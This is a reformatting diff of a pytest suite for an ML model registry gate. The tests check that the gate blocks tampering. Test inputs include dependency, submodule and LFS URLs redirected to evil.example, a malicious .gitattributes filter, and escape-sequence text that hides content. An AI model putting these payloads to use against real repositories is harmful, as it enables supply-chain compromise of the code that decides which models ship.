@@ -75,15 +75,19 @@ def test_history_whois_and_the_gate_read_the_same_version(repo: RegistryRepo) ->
 
 # --- 2, 3. everything that decides how a PR is judged is protected ---------------------------------------
 
-@pytest.mark.parametrize("path,content", [
-    (".github/mlgate-requirements.txt", "mlgate @ git+https://evil.example/mlgate.git\n"),
-    (".gitattributes", "*.yaml working-tree-encoding=UTF-16LE\n"),
-    ("registry/.gitattributes", "*.yaml filter=evil\n"),
-    ("docs/deep/.gitattributes", "* -text\n"),
-    (".gitmodules", '[submodule "registry"]\n\tpath = registry\n\turl = https://evil.example/r.git\n'),
-    (".github/actions/setup/action.yml", "runs: {using: composite, steps: []}\n"),
-    (".lfsconfig", "[lfs]\n\turl = https://evil.example/lfs\n"),
-])
+
+@pytest.mark.parametrize(
+    "path,content",
+    [
+        (".github/mlgate-requirements.txt", "mlgate @ git+https://evil.example/mlgate.git\n"),
+        (".gitattributes", "*.yaml working-tree-encoding=UTF-16LE\n"),
+        ("registry/.gitattributes", "*.yaml filter=evil\n"),
+        ("docs/deep/.gitattributes", "* -text\n"),
+        (".gitmodules", '[submodule "registry"]\n\tpath = registry\n\turl = https://evil.example/r.git\n'),
+        (".github/actions/setup/action.yml", "runs: {using: composite, steps: []}\n"),
+        (".lfsconfig", "[lfs]\n\turl = https://evil.example/lfs\n"),
+    ],
+)
 def test_changes_to_what_judges_a_pr_need_an_admin(lab, capsys, path: str, content: str) -> None:
     repo, forge = lab
     pr(repo, lambda r: r.write(path, content))
@@ -120,6 +124,7 @@ def test_gitkeep_is_still_allowed_outside_versions(repo: RegistryRepo, capsys) -
 
 # --- 4. names and logins are whole strings ---------------------------------------------------------------
 
+
 def test_an_alias_file_name_with_a_trailing_newline_is_not_an_alias(repo: RegistryRepo, capsys) -> None:
     path = f"{FD}/aliases/champion\n.yaml"
     pr(repo, lambda r: r.write(path, ALIAS.replace("champion", "'champion\n\n'") + "version: 1\n"))
@@ -151,6 +156,7 @@ def test_gate_refuses_an_alias_that_is_not_a_name(repo: RegistryRepo, capsys, al
 
 # --- 10. numbers: bounded, exact --------------------------------------------------------------------------
 
+
 def _eval_with(repo: RegistryRepo, version: int, metric: str, text: str) -> None:
     path = f"{FD}/versions/{version}/eval.yaml"
     lines = repo.path(path).read_text().splitlines()
@@ -168,6 +174,7 @@ def test_huge_integers_are_a_finding_not_a_crash(repo: RegistryRepo, capsys, tex
         r.add_version("fraud-detector", 4, like=3)
         _eval_with(r, 4, "latency_p99_ms", text)
         r.edit_yaml(CHAMP, version=4)
+
     pr(repo, mutate)
     code, report, _ = judge(repo, capsys, "--base", "main", "--head", "pr")
     assert code == 1
@@ -185,6 +192,7 @@ def test_metric_bounds_compare_the_decimal_as_written(repo: RegistryRepo, capsys
     def mutate(r: RegistryRepo) -> None:
         r.add_version("fraud-detector", 4, like=3)
         _eval_with(r, 4, "auc", "0.84999999999999999")  # the same double as 0.85, but below it
+
     pr(repo, mutate)
     repo.switch("pr")
     code = main(["-C", str(repo.root), "gate", "fraud-detector", "4", "--alias", "champion", "--format", "json"])
@@ -196,10 +204,19 @@ def test_metric_bounds_compare_the_decimal_as_written(repo: RegistryRepo, capsys
 
 # --- 11. untrusted text neutralised per output -------------------------------------------------------------
 
+
 def test_escape_sequences_in_manifests_are_refused(repo: RegistryRepo, capsys) -> None:
     model = repo.read_yaml(f"{FD}/model.yaml")
-    pr(repo, lambda r: r.write(f"{FD}/model.yaml", (r.path(f"{FD}/model.yaml").read_text()
-                                                    + 'deprecated:\n  - {version: 1, reason: "\\e[8mhidden\\e]8;;http://x\\a"}\n')))
+    pr(
+        repo,
+        lambda r: r.write(
+            f"{FD}/model.yaml",
+            (
+                r.path(f"{FD}/model.yaml").read_text()
+                + 'deprecated:\n  - {version: 1, reason: "\\e[8mhidden\\e]8;;http://x\\a"}\n'
+            ),
+        ),
+    )
     code, report, _ = judge(repo, capsys, "--base", "main", "--head", "pr")
     assert code == 1 and ("MG001", f"{FD}/model.yaml") in errors(report)
     assert "U+001B" in next(f["message"] for f in report["findings"] if f["rule"] == "MG001")
@@ -223,6 +240,7 @@ def test_markdown_report_escapes_html_links_and_comments(repo: RegistryRepo, cap
         data["deprecated"] = [{"version": 3, "reason": reason}]
         r.write(f"{FD}/model.yaml", data)
         r.edit_yaml(CHAMP, version=3)
+
     pr(repo, mutate)
     code = main(["-C", str(repo.root), "validate", "--base", "main", "--head", "pr", "--format", "markdown"])
     md = capsys.readouterr()[0]
@@ -237,12 +255,16 @@ def test_markdown_report_escapes_html_links_and_comments(repo: RegistryRepo, cap
 
 # --- 12. card sections found by a CommonMark parser ----------------------------------------------------------
 
-@pytest.mark.parametrize("card,section", [
-    ("## Intended use\n\u200b\n## Training data\nx\n", "intended use"),
-    ("## Intended use\n\u2060\ufeff\u00ad \n", "intended use"),
-    ("## Intended use\n<!-- TODO -->\n", "intended use"),
-    ("## Intended use\n<div>\n</div>\n", "intended use"),
-])
+
+@pytest.mark.parametrize(
+    "card,section",
+    [
+        ("## Intended use\n\u200b\n## Training data\nx\n", "intended use"),
+        ("## Intended use\n\u2060\ufeff\u00ad \n", "intended use"),
+        ("## Intended use\n<!-- TODO -->\n", "intended use"),
+        ("## Intended use\n<div>\n</div>\n", "intended use"),
+    ],
+)
 def test_a_section_without_visible_text_is_empty(card: str, section: str) -> None:
     assert card_sections(card)[section] is False
 
@@ -258,10 +280,12 @@ def test_setext_headings_are_headings() -> None:
 
 # --- 14. consistent outcomes -----------------------------------------------------------------------------------
 
+
 def test_a_huge_card_fails_its_gate_with_a_report(repo: RegistryRepo, capsys) -> None:
     def mutate(r: RegistryRepo) -> None:
         r.add_version("fraud-detector", 4, like=3, card="# Card\n## Intended use\n" + "x" * (16 * 1024 * 1024) + "\n")
         r.edit_yaml(CHAMP, version=4)
+
     pr(repo, mutate)
     code, report, _ = judge(repo, capsys, "--base", "main", "--head", "pr")
     assert code == 1
@@ -286,6 +310,7 @@ def test_an_internal_error_exits_3(repo: RegistryRepo, tmp_path: Path) -> None:
 
 # --- 9. no symlink leads out of the repository ---------------------------------------------------------------
 
+
 @pytest.fixture
 def linked(repo: RegistryRepo, tmp_path: Path) -> RegistryRepo:
     """registry/ replaced by a symlink to a registry outside the repository."""
@@ -295,8 +320,9 @@ def linked(repo: RegistryRepo, tmp_path: Path) -> RegistryRepo:
     return repo
 
 
-@pytest.mark.parametrize("args", [["list"], ["resolve", "models:/fraud-detector@champion"], ["index"],
-                                  ["show", "fraud-detector"]])
+@pytest.mark.parametrize(
+    "args", [["list"], ["resolve", "models:/fraud-detector@champion"], ["index"], ["show", "fraud-detector"]]
+)
 def test_a_symlinked_registry_is_never_read_through(linked: RegistryRepo, capsys, args: list[str]) -> None:
     code = main(["-C", str(linked.root), *args])
     out, err = capsys.readouterr()
@@ -325,7 +351,9 @@ def test_init_never_writes_through_a_symlink(tmp_path: Path, capsys) -> None:
     outside.mkdir()
     target = RegistryRepo.create(tmp_path / "fresh", example=False)
     target.symlink("registry", str(outside))
-    code = main(["init", str(target.root), "--mlgate-requirement", "mlgate @ git+https://github.com/acme/mlgate@" + "c" * 40])
+    code = main(
+        ["init", str(target.root), "--mlgate-requirement", "mlgate @ git+https://github.com/acme/mlgate@" + "c" * 40]
+    )
     _, err = capsys.readouterr()
     assert code == 2 and "refusing to write through a symlink: registry" in err
     assert list(outside.iterdir()) == [] and not target.path(".github").exists()
@@ -345,13 +373,16 @@ def test_the_library_refuses_a_requester_or_reviewer_that_is_not_a_login(lab) ->
         forge.review(proposal.pr.number, "carol\n", "APPROVED")
 
 
-@pytest.mark.parametrize("args", [
-    ["promote", "fraud-detector", "3", "--alias", "Champion"],
-    ["promote", "Fraud-Detector", "3", "--alias", "champion"],
-    ["rollback", "fraud-detector", "--alias", "Champion"],
-    ["rollback", "fraud-detector", "--alias", "champion\n"],
-    ["resolve", "models:/fraud-detector@Champion"],
-])
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["promote", "fraud-detector", "3", "--alias", "Champion"],
+        ["promote", "Fraud-Detector", "3", "--alias", "champion"],
+        ["rollback", "fraud-detector", "--alias", "Champion"],
+        ["rollback", "fraud-detector", "--alias", "champion\n"],
+        ["resolve", "models:/fraud-detector@Champion"],
+    ],
+)
 def test_write_and_read_commands_refuse_names_that_are_not_names(repo: RegistryRepo, capsys, args: list[str]) -> None:
     before = repo.status()
     code = main(["-C", str(repo.root), *args, *(["--as", "carol"] if args[0] != "resolve" else [])])
@@ -361,12 +392,14 @@ def test_write_and_read_commands_refuse_names_that_are_not_names(repo: RegistryR
 
 # --- found by a second red-team pass ---------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("created_at", ["0001-01-01T00:00:00Z", "0001-01-01T23:00:00+23:00"])
 def test_a_created_at_at_the_dawn_of_time_is_no_crash(repo: RegistryRepo, capsys, created_at: str) -> None:
     def mutate(r: RegistryRepo) -> None:
         r.add_version("fraud-detector", 4, like=3)
         r.edit_yaml(f"{FD}/versions/4/version.yaml", created_at=created_at)
         r.edit_yaml(f"{FD}/aliases/challenger.yaml", version=4)
+
     pr(repo, mutate)
     code, report, err = judge(repo, capsys, "--base", "main", "--head", "pr")
     assert code == 1 and "internal error" not in err and report["gates"]
@@ -416,10 +449,16 @@ def test_a_protect_list_added_by_the_pr_itself_does_not_count(lab, capsys) -> No
     repo, forge = lab
 
     def mutate(r: RegistryRepo) -> None:
-        r.write("registry/policy.yaml", r.path("registry/policy.yaml").read_text().replace(
-            "protect: [pyproject.toml, scripts/, schemas/, .ci/]", "protect: []"))
+        r.write(
+            "registry/policy.yaml",
+            r.path("registry/policy.yaml")
+            .read_text()
+            .replace("protect: [pyproject.toml, scripts/, schemas/, .ci/]", "protect: []"),
+        )
         r.write("scripts/mlgate/gates.py", "# weakened\n")
+
     pr(repo, mutate)
     code, report, _ = judge(repo, capsys, "--base", "main", "--head", "pr")
-    assert code == 1 and {("MG501", "scripts/mlgate/gates.py"), ("MG501", "registry/policy.yaml")} <= \
-        {(f["rule"], f["path"]) for f in report["findings"]}
+    assert code == 1 and {("MG501", "scripts/mlgate/gates.py"), ("MG501", "registry/policy.yaml")} <= {
+        (f["rule"], f["path"]) for f in report["findings"]
+    }
